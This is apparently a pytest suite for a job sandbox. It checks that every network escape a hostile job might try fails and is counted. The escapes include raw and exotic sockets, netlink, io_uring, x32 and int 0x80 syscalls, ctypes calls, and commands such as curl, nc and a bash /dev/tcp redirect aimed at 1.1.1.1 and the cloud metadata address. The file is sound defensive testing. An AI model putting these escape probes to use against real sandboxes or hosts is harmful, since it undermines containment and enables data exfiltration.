"""Claim: nothing leaves a job over any network, and every attempt is counted.

The job is hostile code with all that Python, machine code or an installed program can do.
Each attempt must fail at once, and show in the report.
"""

from __future__ import annotations

import os
import platform
import shutil
import socket
from collections.abc import Iterator
from contextlib import closing, contextmanager

import pytest

from tests.fence.attacking import LONGEST_MS, attack
from tests.fence.benches import Bench

X86 = platform.machine() == "x86_64"


# Addresses outside


def test_tcp_finds_no_route_and_is_counted(bench: Bench) -> None:
    body = """
for family, address in (2, '1.1.1.1'), (2, '169.254.169.254'), (10, '2606:4700::1111'):
    s = socket.socket(family); s.settimeout(5)
    tries(address, lambda: s.connect((address, 80)))
"""
    done = attack(bench, body)
    assert done.output.count("ENETUNREACH") == 3, done.output
    assert done.network_attempts >= 3


def test_udp_finds_no_route_and_is_counted(bench: Bench) -> None:
    body = """
all_hosts = (2, '255.255.255.255'), (2, '224.0.0.251'), (10, 'ff02::1')
for family, address in (2, '8.8.8.8'), *all_hosts:
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    tries(address, lambda: s.sendto(b'x', (address, 53)))
"""
    assert attack(bench, body).network_attempts >= 3


def test_names_are_not_resolved_and_the_look_up_is_counted(bench: Bench) -> None:
    body = """
try: socket.getaddrinfo('secret-in-a-name.example.org', 80)
except socket.gaierror: pass
else: reached('dns')
"""
    assert attack(bench, body).network_attempts >= 1


def test_data_cannot_ride_on_a_connection_attempt(bench: Bench) -> None:
    body = """
s = socket.socket(); tries('fast open', lambda: s.sendto(b'x', 0x20000000, ('1.1.1.1', 80)))
"""
    assert attack(bench, body).network_attempts >= 1


# Services of the host


@contextmanager
def listening(address: str) -> Iterator[tuple[str, int]]:
    """A service of the host on one of its addresses."""
    with closing(socket.create_server((address, 0))) as server:
        yield server.getsockname()[:2]


def host_addresses() -> list[str]:
    """The host's own, found without sending anything."""
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return ["127.0.0.1"]
        return ["127.0.0.1", probe.getsockname()[0]]


def test_services_of_the_host_cannot_be_reached(bench: Bench) -> None:
    for address in host_addresses():
        with listening(address) as (host, port):
            body = f"tries('host', lambda: socket.socket().connect(('{host}', {port})))"
            attack(bench, body)


def test_abstract_socket_of_a_daemon_cannot_be_reached(bench: Bench) -> None:
    name = f"\0daemon-{os.urandom(6).hex()}"
    with closing(socket.socket(socket.AF_UNIX)) as daemon:
        daemon.bind(name)
        daemon.listen()
        body = "tries('abstract', lambda: socket.socket(1).connect('\\0' + sys.argv[1]))"
        done = attack(bench, body, name[1:])
    assert "ECONNREFUSED" in done.output or "EPERM" in done.output


# Other ways to the wire


def test_raw_and_icmp_sockets_are_refused_and_counted(bench: Bench) -> None:
    body = """
tries('raw', lambda: socket.socket(2, socket.SOCK_RAW, 255))
tries('raw6', lambda: socket.socket(10, socket.SOCK_RAW, 58))
tries('ping', lambda: socket.socket(2, socket.SOCK_DGRAM, 1))
tries('ping6', lambda: socket.socket(10, socket.SOCK_DGRAM, 58))
"""
    done = attack(bench, body)
    assert done.refused_syscalls == {
        "socket(AF_INET, SOCK_RAW)": 1,
        "socket(AF_INET, protocol 1)": 1,
        "socket(AF_INET6, SOCK_RAW)": 1,
        "socket(AF_INET6, protocol 58)": 1,
    }


FAMILIES = {"AF_PACKET": 17, "AF_VSOCK": 40, "AF_BLUETOOTH": 31, "AF_ALG": 38, "AF_TIPC": 30}
FAMILIES |= {"AF_CAN": 29, "AF_KEY": 15, "AF_RDS": 21, "44": 44, "AF_X25": 9}


@pytest.mark.parametrize("name", FAMILIES)
def test_other_families_are_refused_and_counted(own_bench: Bench, name: str) -> None:
    body = "tries('family', lambda: socket.socket(int(sys.argv[1]), socket.SOCK_DGRAM))"
    done = attack(own_bench, body, str(FAMILIES[name]))
    assert "EAFNOSUPPORT" in done.output
    assert sum(done.refused_syscalls.values()) == 1
    named = {f"socket({name})", f"socket({FAMILIES[name]})"}  # if Python knows the name
    assert named & set(done.refused_syscalls)


@pytest.mark.parametrize("protocol", [132, 136, 262])  # SCTP, UDP-Lite, MPTCP
def test_other_transports_are_refused_and_counted(own_bench: Bench, protocol: int) -> None:
    body = """
for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET:
    tries(kind, lambda: socket.socket(2, kind, int(sys.argv[1])))
"""
    assert sum(attack(own_bench, body, str(protocol)).refused_syscalls.values()) == 3


def test_bits_above_an_argument_hide_nothing_from_the_filter(own_bench: Bench) -> None:
    """The kernel reads 32 bits of ``family``; a filter that compared 64 would be stepped by."""
    number = 41 if X86 else 198
    body = "tries('high', lambda: syscall(int(sys.argv[1]), 17 | 1 << 32, 3, 0))"
    done = attack(own_bench, body, str(number))
    assert done.refused_syscalls == {"socket(AF_PACKET)": 1}


def test_own_network_namespace_cannot_be_changed(bench: Bench) -> None:
    body = """
s = socket.socket(16, socket.SOCK_RAW, 0)
link = struct.pack('IHHIIBxHiII', 32, 16, 0x405, 1, 0, 0, 0, 0, 1, 0)
s.send(link); kind, error = struct.unpack_from('=4xH10xi', s.recv(4096))
if kind == 2 and error == 0: reached('a new link')
for protocol in 9, 15, 12: tries(protocol, lambda: socket.socket(16, socket.SOCK_RAW, protocol))
"""
    assert sum(attack(bench, body).refused_syscalls.values()) == 3


def test_io_uring_is_refused_and_counted(bench: Bench) -> None:
    body = """
memory = ctypes.create_string_buffer(120)
tries('uring', lambda: syscall(425, 8, ctypes.addressof(memory)))
"""
    assert attack(bench, body).refused_syscalls == {"io_uring_setup": 1}


@pytest.mark.parametrize("number", [0x40000000 + 41, 0x40000000 + 425, 0x40000000])
def test_x32_numbering_is_refused_and_counted(own_bench: Bench, number: int) -> None:
    if not X86:
        return  # no other processor has it
    body = "tries('x32', lambda: syscall(int(sys.argv[1]), 2, 1, 0))"
    assert attack(own_bench, body, str(number)).refused_syscalls == {"x32 system call": 1}


def test_32_bit_calls_from_64_bit_code_are_refused(own_bench: Bench) -> None:
    if not X86:
        return  # no other processor has them
    body = """
import mmap
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex('53 b8 67010000 bb 01000000 b9 01000000 31d2 cd80 5b c3'))
if os.fork() == 0:
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()  # socket(AF_UNIX, SOCK_STREAM)
    os._exit(0 if answer < 0 else 7)
if os.waitstatus_to_exitcode(os.wait()[1]) == 7: reached('int 0x80')
"""
    done = attack(own_bench, body)
    assert set(done.refused_syscalls) <= {"foreign system call"}


# Programs


PROGRAMS = {
    "curl": ["curl", "-sS", "-m", "5", "http://1.1.1.1/"],
    "curl by name": ["curl", "-sS", "-m", "5", "https://example.org/"],
    "wget": ["wget", "-q", "-T", "5", "-t", "1", "http://1.1.1.1/"],
    "git push": ["git", "push", "http://1.1.1.1/r.git", "HEAD"],
    "git push by ssh": ["git", "push", "git@1.1.1.1:r.git", "HEAD"],
    "ping": ["ping", "-c", "1", "-W", "2", "1.1.1.1"],
    "nc": ["nc", "-w", "2", "1.1.1.1", "80"],
    "bash": ["bash", "-c", "echo x > /dev/tcp/1.1.1.1/80"],
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_programs_fail_and_are_counted(own_bench: Bench, name: str) -> None:
    program = PROGRAMS[name]
    if shutil.which(program[0], path="/usr/bin:/bin") is None:
        return  # not on this host: nothing to attack with
    commit = "git init -q .; git -c user.name=x -c user.email=x commit -q --allow-empty -m x"
    prepared = ["sh", "-c", f'{commit}; "$@"', "sh"] if program[0] == "git" else []
    done = own_bench.run(*prepared, *program)
    assert done.exit_status != 0
    assert done.wall_ms < LONGEST_MS
    assert done.network_attempts + sum(done.refused_syscalls.values()) >= 1, done.errors


def test_pip_install_fails_and_is_counted(own_bench: Bench) -> None:
    options = ["--retries", "0", "--timeout", "3", "--target", "/tmp/into"]
    done = own_bench.run(own_bench.python, "-m", "pip", "install", *options, "attrs")
    assert done.exit_status != 0
    assert done.network_attempts >= 1, done.errors


def test_code_around_pythons_socket_module_gets_no_further(bench: Bench) -> None:
    body = """
address = struct.pack('!HH4s8x', 2 << 8, 80, bytes([1, 1, 1, 1]))
s = libc.socket(2, 1, 0)
if libc.connect(s, address, 16) == 0: reached('ctypes')
"""
    assert attack(bench, body).network_attempts >= 1
